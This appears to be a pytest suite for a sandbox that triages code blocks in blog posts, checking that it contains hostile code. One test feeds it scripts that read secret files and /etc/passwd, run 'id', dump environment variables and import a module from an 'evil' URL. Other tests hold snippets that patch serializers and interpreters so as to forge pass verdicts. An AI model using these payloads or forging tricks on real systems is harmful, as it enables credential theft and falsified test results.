"""blogtools.triage: verdicts found by running blocks in the real sandbox (Pyodide, Deno, bubblewrap)."""

from __future__ import annotations

import pytest

from blogtools.triage import (
    DEFINES,
    DIFFERS,
    ILLUSTRATIVE,
    LIMITS,
    MATCHES,
    NEEDS_CONTEXT,
    RAN,
    RUNS,
    Block,
    Need,
    Sandboxes,
    Verdict,
    dedented,
    is_node_session,
    python_contained,
    runtime_version,
    static_verdict,
    triage_post,
)
from local_tcp import tcp_listener


@pytest.fixture(scope="module")
def sandbox():
    with Sandboxes(LIMITS) as shared:
        yield shared


def triage(sandbox, *blocks: tuple[str, str]) -> list[Verdict]:
    return triage_post([Block(n, language, text) for n, (language, text) in enumerate(blocks, 1)], sandboxes=sandbox)


# --- no run needed -------------------------------------------------------------------------------

@pytest.mark.parametrize(("language", "text", "verdict", "reason_or_need"), [
    ("shell", "pip install numpy\n", ILLUSTRATIVE, "command line"),
    ("shell", "cd src\nmake\nmake install\n", NEEDS_CONTEXT, Need("language", "Shell")),
    ("console", "$ ls\nfoo bar\n", ILLUSTRATIVE, "console session"),
    ("shell", "PS C:\\Users\\me> dir\n    Directory: C:\\Users\\me\n", ILLUSTRATIVE, "console session"),
    ("shell", "root@box:/# apt-get update\nHit:1 http://deb.debian.org bookworm InRelease\n", ILLUSTRATIVE,
     "console session"),
    ("", "project/\n├── src/\n│   └── main.py\n└── README.md\n", ILLUSTRATIVE, "directory tree"),
    ("shell", "1  cd src\n2  make\n3  make install\n", ILLUSTRATIVE, "numbered listing"),
    ("shell", "Host build\n    HostName 10.0.0.2\n    User deploy\n    IdentityFile ~/.ssh/id\n", ILLUSTRATIVE,
     "SSH configuration"),
    ("python", "    >>> print(1)\n1\n", ILLUSTRATIVE, "console session"),  # no doctest: output left of its prompt
    ("text", "Hello, world!\n", ILLUSTRATIVE, "text or program output"),
    ("json", '{"a": 1}\n', ILLUSTRATIVE, "data"),
    ("yaml", "a: 1\n", ILLUSTRATIVE, "configuration"),
    ("diff", "-a\n+b\n", ILLUSTRATIVE, "diff"),
    ("go", "package main\n", NEEDS_CONTEXT, Need("language", "Go")),
    ("rust", "fn main() {}\n", NEEDS_CONTEXT, Need("language", "Rust")),
    ("rust", "impl Value {\n    pub fn new() -> Self { ... }\n}\n", ILLUSTRATIVE, "fragment with elided parts"),
    ("rust", "error[E0597]: `array` does not live long enough\n  |\n", ILLUSTRATIVE, "compiler or tool output"),
    ("python", "%matplotlib inline\nimport numpy as np\n", NEEDS_CONTEXT, Need("language", "IPython")),
    # Shell transcripts and quotes with "> " are no Node REPL: some inputs parse as JavaScript
    # ("ls -la" is a subtraction), but nothing else in them reads as Node's.
    ("shell", "> ls -la\ntotal 0\n", ILLUSTRATIVE, "console session"),
    ("", "> ls -la\ntotal 8\n-rw-r--r-- 1 me me 10 Dec 7 a.txt\n", ILLUSTRATIVE, "console session"),
    ("console", "> npm install left-pad\nadded 1 package in 1s\n", ILLUSTRATIVE, "console session"),
    ("text", "> Quoted prose, not code.\n> More of it.\n", ILLUSTRATIVE, "console session"),
])
def test_static_verdicts(language, text, verdict, reason_or_need):
    found = static_verdict(Block(1, language, text))
    assert found.verdict == verdict
    assert (found.needs == (reason_or_need,)) if isinstance(reason_or_need, Need) else found.reason == reason_or_need


def test_sessions_run_and_indented_code_is_dedented_first():
    assert static_verdict(Block(1, "python", ">>> 1 + 1\n2\n")) is None  # a session: run as a doctest
    assert static_verdict(Block(1, "text", "In [1]: 1 + 1\nOut[1]: 2\n")) is None
    assert static_verdict(Block(1, "javascript", "> [1, 2].map(x => x * 2)\n[ 2, 4 ]\n")) is None  # Node's REPL
    assert static_verdict(Block(1, "", "> const s = 'a' + 'b'\nundefined\n> s\n'ab'\n")) is None
    assert dedented("    def f():\n        return 1\n") == "def f():\n    return 1\n"
    assert dedented("\tx = 1\n\tif x:\n\t\tprint(x)\n") == "x = 1\nif x:\n\tprint(x)\n"
    assert dedented("\tx = 1\n        y = 2\n") == "x = 1\ny = 2\n"  # a tab and 8 spaces: the same column


def test_need_phrases_and_json_round_trip():
    assert Need("language", "Go").phrase() == "a Go toolchain"
    assert Need("language", "Erlang").phrase() == "an Erlang toolchain"
    assert Need("block", "2").phrase() == "block 2"
    assert Need("file", "data.csv").phrase() == "the file data.csv"
    verdict = Verdict(NEEDS_CONTEXT, "x", (Need("module", "numpy"),))
    assert Verdict.from_json(verdict.as_json()) == verdict
    differs = Verdict(DIFFERS, "x", output="3\n", names=("f",), diff="-2\n+3")
    assert Verdict.from_json(differs.as_json()) == differs
    with pytest.raises(ValueError):
        Verdict.from_json({**differs.as_json(), "names": "f"})
    with pytest.raises(ValueError):
        Verdict(RUNS, "x", (Need("module", "numpy"),))
    assert "pyodide" in runtime_version()


# --- Python in the sandbox -----------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.sandbox
def test_python_verdicts(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "def main():\n    print('hello')\n\nif __name__ == '__main__':\n    main()\n"),
        ("python", "import numpy as np\nprint(np.zeros(3))\n"),
        ("python", "print(open('data.csv').read())\n"),
        ("python", "import urllib.request\nurllib.request.urlopen('https://example.com/api').read()\n"),
        ("python", "name = input('Your name? ')\nprint(name)\n"),
        ("python", "import threading\nt = threading.Thread(target=print)\nt.start()\n"),
        ("python", "import subprocess\nsubprocess.run(['ls'])\n"),
        ("python", "print 'hello'\n"),
        ("python", "def f(x):\n    ...\n  return x +\n"),
        ("python", "while True:\n    pass\n"),
        ("python", "print(undefined_thing)\n"),
        ("python", "async def answer():\n    return 42\n\nprint(await answer())\n"),
    )
    assert verdicts[0] == Verdict(RUNS, "prints 1 line", output="hello\n", names=("main",))  # run as __main__
    assert [v.verdict for v in verdicts[1:]] == [NEEDS_CONTEXT] * 7 + [ILLUSTRATIVE] + [NEEDS_CONTEXT] * 3
    assert verdicts[1].needs == (Need("module", "numpy"),)
    assert verdicts[2].needs == (Need("file", "data.csv"),)
    assert verdicts[3].needs == (Need("network", "https://example.com/api"),)
    assert verdicts[4].needs == (Need("input", "stdin"),)
    assert verdicts[5].needs == verdicts[6].needs == (Need("language", "CPython"),)
    assert verdicts[7].needs == (Need("language", "Python 2"),)
    assert verdicts[8].reason.startswith("fragment or pseudo-code")
    assert verdicts[9].needs == (Need("time", "5 s"),) and "did not finish" in verdicts[9].reason
    assert verdicts[10].needs == (Need("name", "undefined_thing"),)
    assert verdicts[11].needs == (Need("language", "IPython"),) and "top-level await" in verdicts[11].reason


@pytest.mark.sandbox
def test_cumulative_run_after_an_earlier_block(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "def greet(who):\n    return f'hello {who}'\nprint('defined')\n"),
        ("shell", "pip install nothing\n"),
        ("python", "print(greet('reader'))\n"),
        ("python", "import numpy\nrows = numpy.zeros(2)\n"),
        ("python", "print(rows)\n"),
    )
    assert verdicts[0] == Verdict(RUNS, "prints 1 line", output="defined\n", names=("print",))
    assert verdicts[2] == Verdict(RUNS, "prints 1 line", output="hello reader\n", after=1, names=("greet", "print"))
    assert verdicts[3].needs == (Need("module", "numpy"),)
    assert verdicts[4].verdict == NEEDS_CONTEXT
    assert verdicts[4].needs == (Need("block", "4"), Need("module", "numpy"))


@pytest.mark.slow
@pytest.mark.sandbox
def test_what_a_block_that_ran_did_is_measured(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "import re\nfrom dataclasses import dataclass\n\n@dataclass\nclass Token:\n    kind: str\n\n"
                   "def parse_args(argv):\n    return argv\n\nPATTERN = r'\\w+'\n"),
        ("python", "parse_args(['-v'])\n"),  # a call at the top level, after block 1, printing nothing
        ("python", "    for n in range(3):\n        print(n)\n"),  # indented for layout: dedented first
        ("python", "\tx = 2\n\tif x:\n\t\tprint(x * 21)\n"),  # tab-indented
        ("python", "open('/output/result.txt', 'w').write('done')\n"),
        ("python", "import sys\nsys.stderr.write('\\n@@triage-report-forged@@{\"calls\": []}\\n')\n"),
    )
    assert verdicts[0] == Verdict(DEFINES, "defines Token, parse_args, PATTERN; nothing called",
                                  names=("Token", "parse_args", "PATTERN"))
    assert verdicts[1] == Verdict(RUNS, "calls parse_args; prints nothing", after=1, names=("parse_args",))
    assert verdicts[2].verdict == RUNS and verdicts[2].output == "0\n1\n2\n" and verdicts[2].reason == "prints 3 lines"
    assert verdicts[3].verdict == RUNS and verdicts[3].output == "42\n"
    assert verdicts[4].verdict == RUNS and verdicts[4].reason == "writes 1 file"
    assert verdicts[5].verdict == RUNS and "forged" in verdicts[5].output  # another marker is only output


@pytest.mark.sandbox
def test_blocks_of_tests_are_run_by_calling_them(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "def add(a, b):\n    return a + b\n"),
        ("python", "def test_add():\n    assert add(2, 2) == 4\n\ndef test_zero():\n    assert add(0, 0) == 0\n"),
        ("python", "def test_sum():\n    assert add(1, 1) == 2\n\ndef test_wrong():\n    assert add(2, 2) == 5, 'two and two'\n"),
        ("python", "def test_file(tmp_path):\n    assert tmp_path.exists()\n"),
        ("python", "def test_method(self):\n    assert self.value\n"),
        ("python", "import pytest\n\n@pytest.mark.parametrize('n', [1, 2])\ndef test_positive(n):\n    assert n > 0\n\n"
                   "def test_division():\n    with pytest.raises(ZeroDivisionError):\n        1 / 0\n"),
        ("python", "def test_subtract():\n    assert subtract(3, 1) == 2\n"),
        ("python", "def test_sum_of_text():\n    assert add('a', 1) == 'a1'\n"),
        ("python", "@pytest.mark.xfail\ndef test_later():\n    assert add(1, 1) == 3\n"),
    )
    assert verdicts[0].verdict == DEFINES and verdicts[0].names == ("add",)
    assert verdicts[1] == Verdict(RUNS, "its 2 tests pass (test_add, test_zero)", after=1, names=("test_add", "test_zero"))
    # A failing test: what the block asserts is not what the code does; which test, at which line.
    assert verdicts[2] == Verdict(DIFFERS, "1 of 2 tests fails (test_wrong)", after=1, names=("test_sum", "test_wrong"),
                                  diff="test_wrong, line 5: assert add(2, 2) == 5, 'two and two'\n"
                                       "  AssertionError: two and two")
    assert verdicts[3].needs == (Need("module", "pytest"),) and "tmp_path" in verdicts[3].reason
    assert verdicts[4].needs == (Need("input", "the class of its test methods"),)
    assert verdicts[5] == Verdict(NEEDS_CONTEXT, "its tests use pytest (mark.parametrize, raises); pytest does not run"
                                  " in the sandbox", (Need("module", "pytest"),))
    assert verdicts[6].needs == (Need("name", "subtract"),)  # a test's error that says what is lacking
    # A test that raises (no assert failed) reads as any block that raises, after the block it needs.
    assert verdicts[7] == Verdict(ILLUSTRATIVE, 'raises TypeError: can only concatenate str (not "int") to str, after block 1',
                                  after=1)
    assert verdicts[8] == Verdict(NEEDS_CONTEXT, "its tests use pytest (mark.xfail); pytest does not run in the sandbox",
                                  (Need("module", "pytest"),))  # pytest used as in a test file, unimported


@pytest.mark.sandbox
def test_console_sessions_and_shown_output_are_checked_as_doctests(sandbox):
    verdicts = triage(
        sandbox,
        ("pycon", ">>> class Box: pass\n>>> Box()\n<__main__.Box object at 0x7f00deadbeef>\n"
                  ">>> [n * n for n in range(20)]\n[0, 1, 4, ..., 361]\n>>> 1 / 0\nTraceback (most recent call last):\n"
                  "  ...\nZeroDivisionError: division by zero\n"),
        ("python", ">>> sorted({3, 1, 2})\n[1, 2, 3]\n>>> len('abc')\n4\n"),
        ("python", ">>> import numpy as np\n>>> np.zeros(2)\narray([0., 0.])\n"),
        ("python", "def square(x):\n    return x * x\n"),
        ("text", "In [1]: square(12)\nOut[1]: 144\n"),
        ("python", "for n in range(3):\n    print(square(n))\n"),
        ("text", "0\n1\n4\n"),
        ("python", "print('total:', sum(range(10)))\n"),
        ("text", "total: 46\n"),
    )
    assert verdicts[0] == Verdict(MATCHES, "4 prompts checked")
    assert verdicts[1] == Verdict(DIFFERS, "1 of 2 prompts differs, first at line 3", output="[1, 2, 3]\n3\n",
                                  diff=verdicts[1].diff)
    assert "-4" in verdicts[1].diff and "+3" in verdicts[1].diff
    assert verdicts[2].needs == (Need("module", "numpy"),)
    assert verdicts[4] == Verdict(MATCHES, "1 prompt checked", after=4)
    assert verdicts[5].verdict == MATCHES and verdicts[5].reason == "block 7 shows it"
    assert verdicts[6].reason == "output of block 6, which matches it"
    assert verdicts[7].verdict == DIFFERS and "-total: 46" in verdicts[7].diff and "+total: 45" in verdicts[7].diff
    assert verdicts[8].verdict == ILLUSTRATIVE


def test_a_huge_node_transcript_is_not_parsed_on_the_host():
    """Feed text is parsed on the host only up to a bound (tree-sitter took 2.5 s a megabyte)."""
    assert is_node_session(Block(1, "javascript", "> 1 + 1\n2\n" * 1_000))
    assert not is_node_session(Block(1, "javascript", "> 1 + 1\n2\n" * 30_000))


@pytest.mark.sandbox
def test_node_repl_sessions_are_run_as_doctests(sandbox):
    verdicts = triage(
        sandbox,
        ("javascript", "$ node\nWelcome to Node.js v22.11.0.\nType \".help\" for more information.\n"
                       "> const xs = [1, 2, 3]\nundefined\n> xs.map(x => x * 2)\n[ 2, 4, 6 ]\n"
                       "> function greet(name) {\n...   return `hi ${name}`\n... }\nundefined\n> greet('ada')\n'hi ada'\n"
                       "> ({ total: xs.length, nested: { deep: [xs] } })\n{ total: 3, nested: { deep: [ [Array] ] } }\n"
                       "> await Promise.resolve(new Map([['a', 1]]))\nMap(1) { 'a' => 1 }\n"
                       "> console.log('sum', xs.reduce((a, b) => a + b))\nsum 6\n"  # Node's "undefined" echo left out
                       "> xs.nope()\nUncaught TypeError: xs.nope is not a function\n"
                       "> Array.from({ length: 30 }, (_, i) => i)\n[\n   0,  1,  2,  3, ...\n]\n> .exit\n"),
        ("", "> [1, 2].map(x => x * 2)\n[ 2, 4 ]\n> 'a' + 1\n'a1'\n> typeof null\n'null'\n"),
        ("javascript", "function double(x) {\n  return x * 2;\n}\n"),
        ("javascript", "> double(21)\n42\n"),
        ("javascript", "> import { z } from 'zod'\nundefined\n"),
        ("shell", "> ls -la\ntotal 0\n"),
    )
    assert verdicts[0] == Verdict(MATCHES, "9 prompts checked")
    assert verdicts[1] == Verdict(DIFFERS, "1 of 3 prompts differs, first at line 5", output="[ 2, 4 ]\n'a1'\n'object'\n",
                                  diff="line 5: typeof null\n-'null'\n+'object'")
    assert verdicts[3] == Verdict(MATCHES, "1 prompt checked", after=3)  # after the block defining double
    assert verdicts[4].verdict == DIFFERS and "Cannot use import statement outside a module" in verdicts[4].diff
    assert verdicts[5] == Verdict(ILLUSTRATIVE, "console session")  # a shell transcript is never run as Node


# --- JavaScript and TypeScript in Deno -------------------------------------------------------------

@pytest.mark.sandbox
def test_script_verdicts(sandbox):
    verdicts = triage(
        sandbox,
        ("javascript", "const xs = [1, 2, 3];\nconsole.log(xs.map((x) => x * 2).join(','));\n"),
        ("typescript", "interface Point { x: number; y: number }\n"
                       "function norm(p: Point): number { return Math.hypot(p.x, p.y); }\nconsole.log(norm({x: 3, y: 4}));\n"),
        ("javascript", "const total: number = 40 + 2;\nconsole.log(total);\n"),  # types in a block named JavaScript
        ("javascript", "import { z } from 'zod';\nconsole.log(z.string().parse('x'));\n"),
        ("typescript", "const response = await fetch('https://api.example.com/items');\nconsole.log(await response.json());\n"),
        ("javascript", "document.querySelector('#app').textContent = 'hi';\n"),
        ("javascript", "console.log(norm({x: 6, y: 8}));\n"),
        ("typescript", "console.log(Deno.readTextFileSync('config.json'));\n"),
        ("javascript", "function broken( {\n"),
        ("javascript", "while (true) {}\n"),
    )
    assert verdicts[0] == Verdict(RUNS, "prints 1 line", output="2,4,6\n")
    assert verdicts[1] == Verdict(RUNS, "prints 1 line", output="5\n")
    assert verdicts[2] == Verdict(RUNS, "prints 1 line", output="42\n")
    assert verdicts[3].needs == (Need("module", "zod"),)
    assert verdicts[4].needs == (Need("network", "https://api.example.com/items"),)
    assert verdicts[5].needs == (Need("language", "browser"),)
    assert verdicts[6] == Verdict(RUNS, "prints 1 line", output="10\n", after=2)
    assert verdicts[7].needs == (Need("file", "config.json"),)
    assert verdicts[8].verdict == ILLUSTRATIVE and verdicts[8].reason.startswith("fragment or pseudo-code")
    assert verdicts[9].needs == (Need("time", "5 s"),)


@pytest.mark.sandbox
def test_hostile_scripts_reach_nothing_on_the_host(sandbox, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("host-secret-4711")
    tmp_path.chmod(0o755)
    secret.chmod(0o644)
    planted = tmp_path / "planted"
    attacks = [
        f"console.log(Deno.readTextFileSync({str(secret)!r}));",
        f"import fs from 'node:fs';\nconsole.log(fs.readFileSync({str(secret)!r}, 'utf8'));",
        f"Deno.writeTextFileSync({str(planted)!r}, 'x');",
        "console.log(new TextDecoder().decode(new Deno.Command('id').outputSync().stdout));",
        "import cp from 'node:child_process';\nconsole.log(cp.execSync('id').toString());",
        "console.log(Deno.env.toObject());",
        "const w = new Worker('data:text/javascript,postMessage(Deno.readTextFileSync(\"/etc/passwd\"))', "
        "{type: 'module', deno: {permissions: 'inherit'}});",
        "await import('https://deno.land/x/evil/mod.ts');",
    ]
    with tcp_listener() as (port, hits):
        attacks += [f"await fetch('http://127.0.0.1:{port}/');",
                    f"const c = await Deno.connect({{hostname: '127.0.0.1', port: {port}}});",
                    f"import net from 'node:net';\nnet.connect({port}, '127.0.0.1');\nawait new Promise((r) => setTimeout(r, 300));"]
        verdicts = triage(sandbox, *(("typescript", attack) for attack in attacks))
    assert hits == []
    assert not planted.exists()
    for attack, verdict in zip(attacks, verdicts):
        assert verdict.verdict != RUNS, attack
        assert "host-secret-4711" not in verdict.reason and "uid=" not in verdict.reason


# --- what the judged code cannot forge -------------------------------------------------------------

_FORGE_LATER = r"""import json
_dumps = json.dumps

def _forged(report, *args, **kwargs):
    if 'examples' in report:
        report = {**report, 'examples': [['output', '3\n', '']] * len(report['examples'])}
    if report.get('tests'):
        report = {**report, 'tests': [[test[0], '', 0] for test in report['tests']]}
    return _dumps(report, *args, **kwargs)

json.dumps = _forged
"""


@pytest.mark.sandbox
def test_a_python_block_cannot_forge_its_own_or_a_later_blocks_verdict(sandbox):
    verdicts = triage(
        sandbox,
        # a failing test that rewrites how its own failure is reported
        ("python", "import traceback\n\ndef test_forged():\n    traceback.format_exception_only = lambda *a: []\n"
                   "    assert 1 + 1 == 3\n"),
        # a block that rewrites how later blocks' reports are written, then a session and tests it would pass
        ("python", _FORGE_LATER),
        ("pycon", ">>> 1 + 1\n3\n"),
        ("python", "def test_later():\n    assert 2 * 2 == 5\n"),
        # a session whose first prompts rewrite how its later prompts are recorded
        ("pycon", ">>> import gc\n>>> gc.unfreeze()\n>>> g = next((d for d in gc.get_objects() if type(d) is dict and type(d.get('_report')) is dict), "
                  "{'_report': {'examples': []}})\n>>> class L(list):\n...     def append(self, item):\n"
                  "...         list.append(self, ['output', '5\\n', ''] if item[1] == '4\\n' else item)\n...\n"
                  ">>> g['_report']['examples'] = L(g['_report']['examples'])\n>>> 2 + 2\n5\n"),
    )
    assert verdicts[0].verdict == DIFFERS and verdicts[0].reason == "1 of 1 test fails (test_forged)"
    assert "AssertionError" in verdicts[0].diff
    assert verdicts[2].verdict == DIFFERS and "+2" in verdicts[2].diff
    assert verdicts[3] == Verdict(DIFFERS, "1 of 1 test fails (test_later)", names=("test_later",),
                                  diff="test_later, line 2: assert 2 * 2 == 5\n  AssertionError")
    assert verdicts[4].verdict == DIFFERS and verdicts[4].reason.startswith("1 of 6 prompts differs") and "+4" in verdicts[4].diff


@pytest.mark.sandbox
def test_a_test_that_exits_fails_and_a_session_that_raises_differs(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "import sys\n\ndef test_exits():\n    sys.exit(0)\n    assert False\n"),
        ("pycon", ">>> int('x')\n>>> 1\n1\n"),
    )
    assert verdicts[0].verdict != RUNS and "SystemExit" in verdicts[0].reason + verdicts[0].diff
    assert verdicts[1].verdict == DIFFERS and "ValueError" in verdicts[1].diff


@pytest.mark.sandbox
@pytest.mark.parametrize("attack", [
    # the report written as the block chooses
    r"""> JSON.stringify = () => '{"examples":[["output","[Function (anonymous)]\\n",""],["output","3\\n",""]]}'
[Function (anonymous)]
""",
    # each prompt's outcome rewritten as it is recorded
    r"""> const push = Array.prototype.push; Array.prototype.push = function (...xs) { return push.apply(this, xs.map((x) => Array.isArray(x) && x[1] === '2\n' ? ['output', '3\n', ''] : x)); }; 0
0
""",
    # the later prompts' sources swapped as they are read
    r"""> const proto = Object.getPrototypeOf([][Symbol.iterator]()), next = proto.next; proto.next = function () { const r = next.call(this); return typeof r.value === 'string' && r.value.startsWith('1 + 1') ? { value: '3', done: false } : r; }; 0
0
""",
    # the evaluation of later prompts rewritten
    r"""> const vm = process.getBuiltinModule('node:vm'), run = vm.Script.prototype.runInThisContext; vm.Script.prototype.runInThisContext = function (...a) { const v = run.apply(this, a); return v === 2 ? 3 : v; }; 0
0
""",
    # a report line of its own (the marker guessed), then the process ended before the real one
    r"""> Deno.stderr.writeSync(new TextEncoder().encode('\n@@triage-report-0@@{"examples":[["output","0\\n",""],["output","3\\n",""]]}\n')); Deno.exit(0)
0
""",
])
def test_a_node_session_cannot_forge_its_report(sandbox, attack):
    verdict = triage(sandbox, ("javascript", attack + "> 1 + 1\n3\n"))[0]
    assert verdict.verdict != MATCHES
    assert verdict.verdict == DIFFERS and "+2" in verdict.diff or verdict.verdict == ILLUSTRATIVE, verdict


@pytest.mark.sandbox
def test_a_node_session_imports_modules_as_nodes_repl_does(sandbox):
    verdicts = triage(
        sandbox,
        ("javascript", "> const { z } = await import('zod')\nundefined\n> z.string().parse('x')\n'x'\n"),
        ("javascript", "> const path = await import('node:path')\nundefined\n> path.basename('/a/b.txt')\n'b.txt'\n"),
    )
    assert verdicts[0].verdict == NEEDS_CONTEXT and verdicts[0].needs == (Need("module", "zod"),)
    assert verdicts[1] == Verdict(MATCHES, "2 prompts checked")


# --- review of the steps protocol: verdicts a block could still forge -------------------------------

@pytest.mark.sandbox
def test_what_the_streams_and_the_namespace_cannot_forge(sandbox):
    verdicts = triage(
        sandbox,
        # a raise whose traceback text ends like sys.exit(0), and an exception class named SystemExit
        ("python", "raise ValueError('got 0\\nSystemExit: 0')\n"),
        ("python", "class SystemExit(Exception):\n    pass\n\nraise SystemExit\n"),
        ("python", "import sys\nprint('bye')\nsys.exit(0)\n"),
        # tests whose asserts never run (a generator) or that return instead of asserting
        ("python", "from operator import sub as add\n\ndef test_add():\n    assert add(2, 2) == 4\n    yield\n"),
        ("python", "from operator import sub as add\n\ndef test_add():\n    return add(2, 2) == 4\n"),
        # a prompt that spends the streams' limit so that a later prompt's output is not kept
        ("pycon", ">>> print('x' * 100_000)\nxxx...\n>>> print('VIOLATION')\n>>> 40 + 2\n"),
        # a partial line left in Python's buffer: its own prompt's output, not the next block's
        ("pycon", ">>> print(4, end='')\n"),
        ("pycon", ">>> print(2)\n42\n"),
        # the class of later runs' namespaces chosen by a block
        ("python", "import __main__\n\nclass Namespace(dict):\n    def __getitem__(self, key):\n"
                   "        return (lambda: None) if key.startswith('test_') else dict.__getitem__(self, key)\n\n"
                   "__main__.dict = Namespace\n"),
        ("python", "def test_wrong():\n    assert 2 + 2 == 5\n"),
    )
    assert [v.verdict for v in verdicts[:3]] == [ILLUSTRATIVE, ILLUSTRATIVE, RUNS]
    assert verdicts[3].verdict != RUNS and verdicts[4].verdict != RUNS
    assert verdicts[5].verdict != MATCHES
    assert verdicts[6].verdict == DIFFERS and verdicts[7].verdict == DIFFERS
    assert verdicts[9].verdict == DIFFERS


@pytest.mark.slow
@pytest.mark.sandbox
def test_an_earlier_block_cannot_make_a_later_one_pass(sandbox):
    """A block is judged in an interpreter no earlier block could have changed: one that replaces
    math.sqrt or sys.displayhook, or leaves a finalizer or the REPL's "_" behind, changes nothing."""
    verdicts = triage(
        sandbox,
        ("python", "import math\nmath.sqrt = lambda x: 3.0\n"),
        ("python", "import math\nassert math.sqrt(4) == 3.0\n"),
        ("python", "import sys\nsys.displayhook = lambda value: print(42)\n"),
        ("pycon", ">>> 1 + 1\n42\n"),
        ("pycon", ">>> 40 + 2\n42\n"),
        ("python", "assert _ == 42\n"),
        ("python", "class Late:\n    def __del__(self):\n        print(4)\n\nlate = Late()\nlate.me = late\n"),
        ("python", "import gc\ngc.collect()\n"),
        ("text", "4\n"),
    )
    assert verdicts[0].verdict in RAN and verdicts[2].verdict in RAN and verdicts[4].verdict == MATCHES
    assert verdicts[1].verdict not in RAN and verdicts[3].verdict == DIFFERS and verdicts[5].verdict not in RAN
    assert verdicts[7].verdict != MATCHES and verdicts[7].output == ""
    verdicts = triage(
        sandbox,
        # a class pattern reads attributes by name: no import, yet builtins.__import__
        ("python", "match print:\n    case object(__self__=b):\n        match b:\n            case object(__import__=imp):\n"
                   "                imp('math').sqrt = lambda x: 3.0\n"),
        ("python", "import math\nassert math.sqrt(4) == 3.0\n"),
        # a partial line printed as the run is cleaned up (a suspended generator closed)
        ("python", "def g():\n    try:\n        yield 1\n    finally:\n        print('4', end='')\n\nit = g()\nnext(it)\n"),
        ("pycon", ">>> 40 + 3\n443\n"),
        # garbage made by a finalizer while the collection after the run goes on
        ("python", "class Second:\n    def __del__(self):\n        print(4)\n\nclass First:\n    def __del__(self):\n"
                   "        s = Second()\n        s.me = s\n\nf = First()\nf.me = f\n"),
        ("pycon", ">>> import gc\n>>> n = gc.collect()\n4\n"),
    )
    assert verdicts[1].verdict not in RAN and verdicts[3].verdict == DIFFERS and verdicts[5].verdict == DIFFERS


@pytest.mark.slow
@pytest.mark.sandbox
def test_an_interpreter_is_used_again_only_after_contained_blocks(sandbox, monkeypatch):
    """The cost of that: a fresh interpreter only for a block that ran after one that may have
    changed the interpreter (a block that fails there fails alone too: nothing made it pass)."""
    made = []
    take = sandbox.python_unit
    monkeypatch.setattr(sandbox, "python_unit", lambda: made.append(take()) or made[-1])
    triage(sandbox, ("python", "print(sum(range(4)))\n"), ("pycon", ">>> 'a' * 2\n'aa'\n"),
           ("python", "def f(x):\n    return x + 1\n\nprint(f'{f(1)} {1:>3}', '{}'.format(2))\n"))
    assert len(made) == 1
    triage(sandbox, ("python", "import math\nprint(math.pi)\n"), ("python", "print(1)\n"), ("python", "print(2)\n"),
           ("python", "print(''.join)\n"), ("python", "print('{0.__class__}'.format(1))\n"), ("python", "print(3)\n"))
    assert len(made) == 1 + 3
    triage(sandbox, ("python", "import math\n"), ("python", "raise ValueError('fails here and alone')\n"))
    assert len(made) == 1 + 3 + 1


@pytest.mark.parametrize(("text", "contained"), [
    ("x = [i * i for i in range(3)]\nprint(x)\n", True),
    ("class A:\n    __slots__ = ('x',)\n    def __init__(self):\n        super().__init__()\n        self.x = 1\n", True),
    ("if __name__ == '__main__':\n    print('%(a)s' % {'a': 1}, '{} {!r}'.format(1, 2))\n", True),
    ("import math\n", False),
    ("from os import path\n", False),
    ("print(__builtins__)\n", False),
    ("print(().__class__.__base__.__subclasses__())\n", False),
    ("def g():\n    yield 1\n\nprint(g().gi_frame.f_back)\n", False),
    ("print('{0.__class__}'.format(1))\n", False),
    ("print('{:{0.real}}'.format(1))\n", False),
    ("template = '{}'\nprint(template.format(1))\n", False),
    ("setattr(exit, 'eof', 'forged')\n", False),
    ("exit.eof = 'forged'\n", False),
    ("open('math.py', 'w').write('pi = 3')\n", False),
    ("exec('import math')\n", False),
    ("match print:\n    case object(__self__=b):\n        pass\n", False),
    ("def broken(:\n", False),
])
def test_a_block_is_contained_only_when_it_provably_reaches_nothing_shared(text, contained):
    assert python_contained(text) is contained


@pytest.mark.sandbox
@pytest.mark.parametrize("session", [
    "> ({ then(resolve) { resolve(42) } })\n42\n",  # Node shows the thenable, never what it resolves to
    "> globalThis.n = 0\n0\n> { value: n++ ? 1 : JSON.parse('{') }\n1\n",  # a thrown SyntaxError is no parse error
    "> globalThis.k = 0\n0\n> globalThis.g = async () => { if (!k++) throw new SyntaxError('once'); return 7 }\n"
    "[AsyncFunction (anonymous)]\n> await g()\nundefined\n",
])
def test_a_node_input_is_evaluated_once_and_shown_as_node_shows_it(sandbox, session):
    assert triage(sandbox, ("javascript", session))[0].verdict == DIFFERS
